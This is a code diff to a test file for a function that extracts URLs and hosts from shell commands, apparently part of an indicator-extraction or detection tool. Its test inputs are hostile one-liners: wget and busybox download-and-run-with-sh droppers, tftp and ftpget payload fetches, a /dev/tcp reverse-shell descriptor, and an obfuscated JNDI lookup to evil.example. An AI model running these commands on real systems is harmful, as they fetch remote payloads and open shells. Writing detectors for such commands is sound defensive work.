@@ -28,11 +28,15 @@ test('tools that name a host and a file give a URL, and the tool', () => {
     { url: 'tftp://198.51.100.9/t.sh', decoded: 'plain', tool: 'tftp' },
   ])
   expect(urls('tftp -r t2.sh -g 198.51.100.9')).toEqual(['tftp://198.51.100.9/t2.sh'])
-  expect(urls('ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 f1.sh f1.sh')).toEqual(['ftp://198.51.100.9/f1.sh'])
+  expect(urls('ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 f1.sh f1.sh')).toEqual([
+    'ftp://198.51.100.9/f1.sh',
+  ])
   expect(urls('wget -q -O- 198.51.100.9:8080/x|sh')).toEqual(['http://198.51.100.9:8080/x'])
   expect(urls('exec 6<>/dev/tcp/198.51.100.9/60130')).toEqual(['tcp://198.51.100.9:60130'])
   expect(urls('${${lower:j}ndi:${::-l}dap://evil.example/a}')).toContain('ldap://evil.example/a')
-  expect(urls('H=198.51.100.9; (wget -qO- http://$H/rondo.x.sh||busybox wget -qO- http://$H/rondo.x.sh)|sh')).toContain('http://198.51.100.9/rondo.x.sh')
+  expect(urls('H=198.51.100.9; (wget -qO- http://$H/rondo.x.sh||busybox wget -qO- http://$H/rondo.x.sh)|sh')).toContain(
+    'http://198.51.100.9/rondo.x.sh',
+  )
 })
 
 test('nothing is found where nothing is', () => {
